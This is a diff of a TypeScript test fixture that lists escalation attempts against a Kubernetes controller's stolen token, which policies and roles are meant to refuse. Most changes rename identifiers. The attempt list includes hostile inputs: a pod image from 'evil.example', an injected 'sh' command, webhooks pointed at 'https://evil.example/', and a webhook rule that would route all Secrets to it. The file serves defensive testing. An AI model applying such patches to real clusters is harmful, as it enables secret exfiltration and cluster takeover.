@@ -45,13 +45,13 @@ function remove(path: string): Call {
 /** A Secret of the controller, as it applies it. */
 function applySecret(name: string): Call {
   const body = { apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace: 'archwright' } };
-  const patch: Patch = { type: 'apply', body, fieldManager: 'archwright', force: true };
+  const patch: Patch = { type: 'apply', body, fieldManager: 'archwright' };
   return (who) => who.patch(`/api/v1/namespaces/archwright/secrets/${name}`, patch, { signal: patience() });
 }
 
 const own = { namespace: 'archwright', name: 'archwright-webhook' };
 
-function webhooksBecome(clientConfig: object, rule?: object): Call {
+function setWebhooks(clientConfig: object, rule?: object): Call {
   const one = {
     name: 'pods.arch.example',
     admissionReviewVersions: ['v1'],
@@ -62,7 +62,7 @@ function webhooksBecome(clientConfig: object, rule?: object): Call {
 }
 
 /** Escalations with a stolen token of the controller. Policies refuse them, whatever roles grant. */
-export const heldByPolicies: readonly Attempt[] = [
+export const refusedByPolicies: readonly Attempt[] = [
   ['another image', replace(pod, '/spec/containers/0/image', 'evil.example/x:1')],
   ['another image of an init container', replace(pod, '/spec/initContainers/0/image', 'evil.example/x:1')],
   ['another command', add(pod, '/spec/containers/0/command', ['sh'])],
@@ -106,7 +106,7 @@ export const heldByPolicies: readonly Attempt[] = [
   ],
   ['a deleted pod', remove(pod)],
   ['a deleted node', remove(node)],
-  ['a node that takes no pods', spec(node, { unschedulable: true })],
+  ['an unschedulable node', spec(node, { unschedulable: true })],
   ["another program's taint removed", spec(node, { taints: [] })],
   ['a taint that evicts pods', spec(node, { taints: [dedicated, { key: 'x', effect: 'NoExecute' }] })],
   ["another program's taint recorded as archwright's", annotation(node, 'arch.example/taint', 'dedicated')],
@@ -118,12 +118,12 @@ export const heldByPolicies: readonly Attempt[] = [
   ['the status of a node', status(node, { nodeInfo: { architecture: 'arm64' } })],
   [
     "another program's service as a webhook",
-    webhooksBecome({ service: { namespace: 'kube-system', name: 'evil' } }),
+    setWebhooks({ service: { namespace: 'kube-system', name: 'evil' } }),
   ],
-  ['a URL as a webhook', webhooksBecome({ url: 'https://evil.example/' })],
+  ['a URL as a webhook', setWebhooks({ url: 'https://evil.example/' })],
   [
     'Secrets sent to the webhook',
-    webhooksBecome(
+    setWebhooks(
       { service: own },
       { apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['secrets'] },
     ),
@@ -170,7 +170,7 @@ export const refusedByRoles: readonly Attempt[] = [
   ["another program's webhook configuration", label(`${webhooks}-other`, 'a', 'b')],
   ['a deleted webhook configuration', remove(webhooks)],
   [
-    'a policy less',
+    'a deleted policy',
     remove('/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/archwright-own-pods'),
   ],
   [
@@ -180,7 +180,7 @@ export const refusedByRoles: readonly Attempt[] = [
 ];
 
 /** The controller's writes, in an order without repeated changes. */
-export const work: readonly Attempt[] = [
+export const controllerWrites: readonly Attempt[] = [
   [
     'placement of a gated pod',
     json(
@@ -209,7 +209,7 @@ export const work: readonly Attempt[] = [
     ),
   ],
   [
-    'the place of a pod in a scale-down',
+    "a pod's deletion cost",
     merge(pod, {
       metadata: {
         annotations: {
@@ -243,6 +243,6 @@ export const work: readonly Attempt[] = [
       { op: 'remove', path: '/metadata/labels/arch.example~1agent' },
     ),
   ],
-  ['its webhook configuration', webhooksBecome({ service: { ...own, path: '/mutate' } })],
+  ['its webhook configuration', setWebhooks({ service: { ...own, path: '/mutate' } })],
   ['a new Secret of certificates', applySecret('archwright-webhook-tls')],
 ];
